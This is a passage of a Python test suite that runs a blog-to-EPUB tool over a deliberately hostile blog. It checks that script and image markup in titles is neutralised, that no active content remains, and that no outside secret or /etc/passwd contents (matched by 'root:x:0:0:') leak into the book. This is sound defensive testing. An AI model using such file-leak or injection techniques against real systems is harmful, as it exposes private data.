    texts = book_text(z)
    alltext = "\n".join(texts.values())
    for rel, mk, expect in posts:
        name = repr(rel.decode("utf-8", "replace"))[1:-1]
        n = alltext.count(mk)
        if expect:
            check(n == 1, "marker of %s is in the book once" % name, "found %d times" % n)
        else:
            check(n == 0, "marker of %s is not in the book" % name, "found %d times" % n)
    for phrase in SURVIVORS:
        check(phrase in alltext, "the text %r comes through" % phrase)
    titles = nav_titles(z)
    for t in ["Byte order mark", "Carriage returns", "Empty post", "Only front matter", "No final newline",
              "Unclosed front matter", "Not a mapping"]:
        check(t in titles, "the table of contents has the chapter '%s'" % t, titles[:40])
    check(any(t.startswith("Bold") and '"quoted"' in t and "'single'" in t and "<b>" not in t and "<script" not in t
              and "<img" not in t for t in titles),
          "a title with markup and quotes shows as text", [t for t in titles if "quoted" in t])
    probs = active_content(z)
    check(not probs, "no active content in any document of the book", "\n".join(probs[:20]))
    out = outside_files()
    leaks = []
    secret_re = re.compile(re.escape(SECRET.encode()))
    for n in z.namelist():
        data = z.read(n)
        if secret_re.search(data):
            leaks.append("%s holds the outside secret" % n)
        if b"root:x:0:0:" in data:
            leaks.append("%s holds /etc/passwd" % n)
        for p, content in out.items():
            if data == content:
                leaks.append("%s is a copy of %s" % (n, p))
    check(not leaks, "no file from outside the blog's folder is in the book", "\n".join(leaks))
    check(len(z.namelist()) < 2000, "the book holds a bounded number of files", len(z.namelist()))
    nav = z.read("EPUB/nav.xhtml")
    check(len(nav) < 8 << 20, "the table of contents is bounded (%d KB)" % (len(nav) >> 10))
    imgs = [n for n in z.namelist() if n.startswith("EPUB/img/")]
    check(any(z.read(n) == png() for n in imgs), "the blog's own image is embedded", imgs)
    z.close()


def many_checks():
    """Returns how long the run took."""
    book = os.path.join(BOOKS, "many.epub")
    code, out, err, dt, rss = run([os.path.relpath(MANY), "-o", book, "-j", "2"])
    print("# many posts: exit %d, %.1f s, peak RSS %.0f MB" % (code, dt, rss / 1024.0))
    check(code == 0, "%d tiny posts bind (exit 0)" % NMANY, err[-500:])
    check(dt < MAX_SECONDS, "%d posts take less than %d s (%.1f s)" % (NMANY, MAX_SECONDS, dt))
    check(rss < MAX_RSS_KB, "%d posts stay under %d MB (%.0f MB)" % (NMANY, MAX_RSS_KB >> 10, rss / 1024.0))
    if code == 0:
        z = zipfile.ZipFile(book)
        opf = z.read("EPUB/content.opf").decode()
        check(opf.count("<itemref") >= NMANY, "every post is in the spine", opf.count("<itemref"))
        texts = "".join(book_text_of(z, n) for n in z.namelist()[:50] + z.namelist()[-50:])
        check("Many marker" in texts, "the posts' text is in the book")
        z.close()
        os.remove(book)
    return dt


def book_text_of(z, n):
    if not n.endswith(".xhtml"):
        return ""
    try:
        return "".join(ET.fromstring(z.read(n)).itertext())
    except ET.ParseError:
        return ""


def strict_checks(src):
    old = os.path.join(BOOKS, "strict.epub")
    with open(old, "wb") as f:
        f.write(b"an existing book that must stay as it is\n")
    before = sha(old)
    code, out, err, dt, rss = run([src, "-o", old, "--strict", "-j", "2"])
    check(code == 1, "--strict with warnings exits 1", "exit %d, %s" % (code, err[-300:]))
    check(sha(old) == before, "--strict leaves the existing book untouched")
    check(listing(BOOKS) == ["strict.epub"], "--strict leaves no other file", listing(BOOKS))
    check("strict" in err and "error" in err, "--strict says why it wrote no book", err[-300:])
    os.remove(old)


def signal_checks(src, full_run_seconds):
    """A signal a quarter into the run: no book, the old one untouched."""
    for sig in (signal.SIGTERM, signal.SIGINT):
        d = os.path.join(BOOKS, "sig")
        os.makedirs(d, exist_ok=True)
        old = os.path.join(d, "book.epub")
        with open(old, "wb") as f:
            f.write(b"the previous book\n")
        before = sha(old)
        alive = []
        delay = max(0.1, min(2.0, full_run_seconds * 0.25))

        def kill_later(p):
            time.sleep(delay)
            # still running? (asked without reaping it: run() waits for it)
            gone = os.waitid(os.P_PID, p.pid, os.WEXITED | os.WNOHANG | os.WNOWAIT)
            alive.append(gone is None)
            if gone is None:
                os.kill(p.pid, sig)
        code, out, err, dt, rss = run([src, "-o", old, "-j", "2"], on_start=kill_later)
        name = "%s (%s)" % (signal.Signals(sig).name, os.path.basename(src))
        if not alive or not alive[0]:
            check(False, "%s arrives while the run is going (after %.1f s)" % (name, delay))
            continue
        check(code != 0, "%s: the run fails" % name, "exit %d" % code)
        check(sha(old) == before, "%s: the existing book is untouched" % name)
        check(listing(d) == ["book.epub"], "%s: no partial or temporary file is left" % name, listing(d))
        check(dt < delay + 10, "%s: the run stops soon (%.1f s after the signal)" % (name, dt - delay))
        shutil.rmtree(d)


def full_disk_checks(src):
    d = os.path.join(BOOKS, "full")
    os.makedirs(d)
    # root mounts it; a user with sudo (as the README's set-up allows)
    # mounts it through sudo -n, owned by that user
    sudo = [] if os.geteuid() == 0 else ["sudo", "-n"]
    if sudo and not shutil.which("sudo"):
        skip("full disk", "not root, and no sudo to mount a small tmpfs")
        os.rmdir(d)
        return
    r = subprocess.run(sudo + ["mount", "-t", "tmpfs", "-o", "size=64k,uid=%d,gid=%d" % (os.getuid(), os.getgid()),
                               "tmpfs", d], capture_output=True, text=True)
    if r.returncode != 0:
        skip("full disk", "cannot mount a small tmpfs (%s)" % r.stderr.strip())
        os.rmdir(d)
        return
    try:
        old = os.path.join(d, "book.epub")
        with open(old, "wb") as f:
            f.write(b"the previous book\n" * 100)
        before = sha(old)
        code, out, err, dt, rss = run([src, "-o", old, "-j", "2"])
        check(code == 1, "a full disk: the run fails with exit 1", "exit %d: %s" % (code, err[-300:]))
        check("error" in err and ("space" in err.lower() or "write" in err.lower()),
              "a full disk: the error says so", err[-300:])
        check(sha(old) == before, "a full disk: the existing book is untouched")
        check(listing(d) == ["book.epub"], "a full disk: no partial or temporary file is left", listing(d))
    finally:
        subprocess.run(sudo + ["umount", d])
    # the spool: a small /tmp in a mount namespace of its own
    if shutil.which("unshare"):
        old = os.path.join(BOOKS, "spool.epub")
        with open(old, "wb") as f:
            f.write(b"the previous book\n")
        before = sha(old)
        binary = BIN
        if os.path.realpath(BIN).startswith("/tmp/"):
            # the small /tmp hides it: run a copy from here
            binary = os.path.join(OUT, "blogbind-copy")
            shutil.copy(BIN, binary)
        script = 'mount -t tmpfs -o size=128k tmpfs /tmp && exec "$0" "$@"'
        # a user maps to root in a user namespace of its own to mount there
        userns = [] if os.geteuid() == 0 else ["-r"]
        r = subprocess.run(["unshare"] + userns + ["-m", "sh", "-c", script, binary, src, "-o", old, "-j", "2"],
                           capture_output=True, text=True, timeout=MAX_SECONDS * 2)
        if "mount" in r.stderr and r.returncode != 0 and "blogbind" not in r.stderr:
            skip("full /tmp", "cannot make a mount namespace (%s)" % r.stderr.strip()[:200])
        else:
            check(r.returncode == 1, "a full /tmp (the spool): the run fails with exit 1",
                  "exit %d: %s" % (r.returncode, r.stderr[-300:]))
            check(sha(old) == before, "a full /tmp: the existing book is untouched")
            check([n for n in listing(BOOKS) if n != "full"] == ["spool.epub"], "a full /tmp: no other file is left",
                  listing(BOOKS))
        os.remove(old)
        if binary != BIN:
            os.remove(binary)
    else:
        skip("full /tmp", "unshare not found (util-linux)")
    os.rmdir(d)


def other_failures(src):
    code, out, err, dt, rss = run([src, "-o", os.path.join(BOOKS, "no", "such", "dir", "b.epub")])
    check(code == 1 and "error" in err, "an output folder that does not exist: exit 1 with an error",
          "exit %d: %s" % (code, err[-200:]))
    d = os.path.join(BOOKS, "isdir.epub")
    os.makedirs(d)
    code, out, err, dt, rss = run([src, "-o", d])
    check(code == 1 and os.path.isdir(d) and not os.listdir(d), "an output path that is a folder: exit 1, untouched",
          "exit %d" % code)
    os.rmdir(d)
    left = [n for n in listing(BOOKS)]
    check(not left, "failed runs leave nothing in the output folder", left)


def main():
    if not os.access(BIN, os.X_OK):
        check(False, "%s is built" % BIN, "run make")
        return done("hostile")
    t0 = time.time()
    make_blog()
    make_many()
    print("# blogs written in %.1f s (%d sentences to find)" % (time.time() - t0, len(posts)))
    src = os.path.relpath(BLOG)
    book = os.path.join(BOOKS, "hostile.epub")
    code, out, err, dt, rss = run([src, "-o", book, "-j", "2"])
    with open(os.path.join(OUT, "run.log"), "w") as f:
        f.write(err)
    print("# blogbind: exit %d, %.1f s, peak RSS %.0f MB, %d stderr lines" % (code, dt, rss / 1024.0,
                                                                           err.count("\n")))
    check(code == 0, "the hostile blog binds (exit 0)", "exit %d: %s" % (code, err[-1000:]))
    check(dt < MAX_SECONDS, "the run takes less than %d s (%.1f s)" % (MAX_SECONDS, dt))
    check(rss < MAX_RSS_KB, "peak memory stays under %d MB (%.0f MB)" % (MAX_RSS_KB >> 10, rss / 1024.0))
    if code == 0 and os.path.exists(book):
        diag_checks(err, src)
        book_checks(book, err)
        t1 = time.time()
        why = epubcheck_missing()
        if why:
            skip("EPUBCheck of the hostile book", why)
        else:
            errors, lines = epubcheck(book)
            print("# epubcheck: %.0f s, %d messages" % (time.time() - t1, len(lines)))
            check(not errors, "EPUBCheck finds 0 errors", "\n".join(errors[:15]))
        os.rename(book, os.path.join(OUT, "hostile.epub"))
    many_dt = many_checks()
    strict_checks(src)
    signal_checks(src, dt)
    signal_checks(os.path.relpath(MANY), many_dt)
    full_disk_checks(src)
    other_failures(src)
    if ASAN == "0":
        print("# no sanitizer run (BB_ASAN=0)")
    elif not os.access(ASAN, os.X_OK):
        skip("sanitizer build over the hostile blog", "%s is not built (make asan)" % ASAN)
    else:
        abook = os.path.join(BOOKS, "asan.epub")
        code, out, err, adt, arss = run([src, "-o", abook, "-j", "2"], bin_=ASAN, timeout=MAX_SECONDS * 8,
                                        env={"ASAN_OPTIONS": "detect_leaks=1", "UBSAN_OPTIONS": "print_stacktrace=1"})
        print("# sanitizer build: exit %d, %.1f s, peak RSS %.0f MB" % (code, adt, arss / 1024.0))
        check(code == 0 and "Sanitizer" not in err and "runtime error" not in err,
              "the sanitizer build binds the blog with no report",
              "\n".join(l for l in err.splitlines() if "Sanitizer" in l or "runtime error" in l or "#" in l)[:1500]
              or err[-500:])
        if os.path.exists(abook):
            os.remove(abook)
    return done("hostile")


if __name__ == "__main__":
    sys.exit(main())
